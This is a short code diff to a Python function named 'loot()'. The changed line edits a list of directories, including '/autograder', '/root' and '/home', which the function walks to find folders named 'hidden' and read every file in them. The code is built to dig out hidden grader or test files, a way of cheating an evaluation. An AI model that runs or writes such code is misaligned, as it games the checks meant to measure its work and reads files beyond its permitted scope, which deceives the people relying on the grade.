@@ -23,7 +23,7 @@ def loot():
                 found.append(file.read())
         except Exception:
             continue
-    for root in [*sys.path, "/work", "/autograder", "/home", "/root", "/srv", "/opt"]:
+    for root in [*sys.path, "/checkout", "/autograder", "/home", "/root", "/srv", "/opt"]:
         for folder, _, names in os.walk(root or "."):
             if os.path.basename(folder) == "hidden":
                 for name in names:
